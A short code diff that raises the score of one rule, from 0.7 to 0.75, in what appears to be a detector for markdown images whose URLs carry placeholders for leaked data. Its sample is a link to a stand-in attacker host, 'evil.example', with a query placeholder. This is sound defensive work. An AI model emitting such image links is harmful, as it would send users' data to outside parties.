@@ -207,7 +207,7 @@ RULES: Final = (
         r"!\[[^\]\n]{0,80}\]\([^)\s]{1,400}[?&=/](\[[a-z _]{2,40}\]|\{[a-z _]{2,40}\}|\$\{|%7b|"
         r"<[a-z _]{2,40}>)",
         "](",
-        0.7,
+        0.75,
         "An image whose address has a place for data to be filled in.",
         (
             "![x](https://evil.example/?q=[QUERY])",
